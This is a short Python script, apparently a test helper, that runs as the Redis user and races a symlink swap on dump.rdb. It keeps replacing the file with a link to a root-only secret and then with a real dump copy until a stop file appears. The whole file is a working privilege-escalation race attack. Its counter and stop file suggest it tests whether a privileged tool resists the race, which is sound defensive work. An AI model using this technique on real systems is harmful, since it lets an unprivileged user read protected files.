# Run as Redis's user: keeps turning dump.rdb into a link to a root-only file and back into a copy of a real dump, as
# fast as it can, until the stop file appears. Prints how many swaps it made.
import os
import sys

data_directory, secret, stop = sys.argv[1], sys.argv[2], sys.argv[3]
dump = os.path.join(data_directory, "dump.rdb")
with open(dump, "rb") as f:
    real_content = f.read()
swaps = 0
while not os.path.exists(stop):
    link = dump + ".link"
    real = dump + ".real"
    try:
        os.symlink(secret, link)
        os.replace(link, dump)
        with open(real, "wb") as f:
            f.write(real_content)
        os.replace(real, dump)
        swaps += 1
    except OSError:
        pass
print(swaps)
